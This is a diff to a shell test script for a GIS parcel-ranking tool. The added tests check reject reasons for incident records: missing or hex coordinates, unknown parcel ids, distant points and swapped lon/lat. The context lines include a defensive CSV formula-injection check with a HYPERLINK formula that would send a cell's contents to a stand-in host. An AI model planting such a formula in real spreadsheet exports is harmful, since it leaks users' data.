@@ -99,3 +99,73 @@ grep -qF "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\"" "$OUT/ta
 ! grep -q '^[^"]*,=HYPERLINK\|,"=HYPERLINK' "$OUT"/*.csv || fail "$CASE: a CSV still starts a cell with ="
 grep -qF '"=HYPERLINK(\"http://x.example/?\"&A1,\"click\")"' "$OUT/ranked_parcels.geojson" \
   || fail "$CASE: the GeoJSON must keep the text as read"
+
+# ---- reasons that tell the truth -------------------------------------------
+# Incidents in lon/lat (EPSG:4326, so that a missing coordinate goes through
+# PROJ); the parcels are UTM 16N squares around (741000, 3735000).
+lonlat=$(echo "741015 3735015" | gdaltransform -s_srs EPSG:32616 -t_srs EPSG:4326 | awk '{printf "%.7f,%.7f", $1, $2}')
+cat > inc.csv <<CSV
+id,when,lon,lat,pin,addr
+1,2024-06-01,$lonlat,P1,1 X ST
+2,2024-06-01,,,ZZ9,
+3,2024-06-01,,,,
+4,2024-06-01,,,,12 NOWHERE AVE
+5,2024-06-01,${lonlat%,*},,,
+6,2024-06-01,0x21,33.7,,
+CSV
+inc_yaml() { # JOIN
+  parcels_yaml parcels.csv
+  cat <<YAML
+  incidents:
+    source: inc.csv
+    geometry: {x: lon, y: lat}
+    crs: EPSG:4326
+    fields: {date: when, parcel_id: pin, address: addr}
+    join: $1
+YAML
+}
+
+case_name "records without coordinates never reach the spatial steps; the id and address reasons survive"
+inc_yaml "[parcel_id, address, contains, nearest]" > c.yaml
+run_ok c.yaml
+expect_reject incidents unknown_parcel_id "its parcel id 'ZZ9' is not among the parcels"
+grep -q "^incidents,2,.*beyond_tolerance" "$OUT/rejects.csv" && fail "$CASE: a record without a point was rejected beyond_tolerance"
+awk -F, '$1 == "incidents" && $2 == 3 && $4 == "no_parcel_id_or_point" { ok = 1 } END { exit !ok }' "$OUT/rejects.csv" \
+  || { cat "$OUT/rejects.csv" >&2; fail "$CASE: incident 3 (nothing) must be no_parcel_id_or_point"; }
+awk -F, '$1 == "incidents" && $2 == 4 && $4 == "unknown_street" { ok = 1 } END { exit !ok }' "$OUT/rejects.csv" \
+  || { cat "$OUT/rejects.csv" >&2; fail "$CASE: incident 4 (address, no point) must keep the address reason"; }
+accounting_balanced
+
+case_name "an empty lat is blamed on lat; 0x21 is not a number"
+awk -F, '$1 == "incidents" && $2 == 5 && $3 == "lat" && $4 == "unparsable_coordinates" { ok = 1 } END { exit !ok }' "$OUT/rejects.csv" \
+  || { cat "$OUT/rejects.csv" >&2; fail "$CASE: incident 5's empty lat must be blamed on lat"; }
+expect_reject incidents unparsable_coordinates "the y (latitude) coordinate is empty"
+awk -F, '$1 == "incidents" && $2 == 6 && $3 == "lon" && $4 == "unparsable_coordinates" { ok = 1 } END { exit !ok }' "$OUT/rejects.csv" \
+  || { cat "$OUT/rejects.csv" >&2; fail "$CASE: 0x21 must be unparsable"; }
+
+case_name "an unknown id with a point too far names the id"
+cat > far.csv <<CSV
+id,when,lon,lat,pin,addr
+1,2024-06-01,-84.0,33.0,ZZ7,
+CSV
+sed 's/source: inc.csv/source: far.csv/' c.yaml > c2.yaml
+cat >> c2.yaml <<'YAML'
+join: {study_area_km: 5000}
+YAML
+run_ok c2.yaml
+expect_reject incidents beyond_tolerance "its parcel id 'ZZ7' is not among the parcels either"
+
+case_name "a whole layer of swapped lon/lat is called that"
+swap_parcels() {
+  echo "pin,addr,yr,wkt"
+  echo 'S1,1 A ST,1950,"POLYGON((37.70 -122.40,37.70 -122.39,37.71 -122.39,37.71 -122.40,37.70 -122.40))"'
+  echo 'S2,2 A ST,1950,"POLYGON((37.72 -122.40,37.72 -122.39,37.73 -122.39,37.73 -122.40,37.72 -122.40))"'
+}
+swap_parcels > swapped.csv
+parcels_yaml swapped.csv "    geometry: {wkt: wkt}
+    crs: EPSG:4326" | sed '/^working_crs/d' > c.yaml
+run_fails 2 "the longitude and latitude are stored swapped" c.yaml
+grep -qF "swapped.csv, layer 'swapped'" "$WORK/stderr" || fail "$CASE: the message must name file and layer"
+parcels_yaml swapped.csv "    geometry: {wkt: wkt}
+    crs: EPSG:4326" > c.yaml
+run_fails 2 "the longitude and latitude are stored swapped" c.yaml
